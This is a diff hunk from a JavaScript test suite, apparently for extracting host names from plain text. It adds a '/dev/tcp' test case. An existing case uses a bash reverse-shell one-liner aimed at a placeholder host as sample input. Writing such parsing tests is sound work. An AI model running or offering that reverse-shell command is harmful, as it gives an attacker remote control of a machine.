@@ -467,6 +467,7 @@ describe("links in a plain text", () => {
       "https://b.example/a%20b"
     ],
     ["bash -i >& /dev/tcp/a-b.example/443 0>&1, not /dev/tcp/$HOST/80", "a-b.example"],
+    ["/dev/tcp/$x=a-b.example is unusual", "a-b.example"],
     ["(^|\\.)a-b\\.example$ (\\.|^)b-c\\.example$ 1.5.3.4$", "a-b\\.example", "b-c\\.example"],
     ["bad(닷)example.com or bad [점] com/x", "bad(닷)example.com", "bad[점]com/x"],
     ["", ...[]]
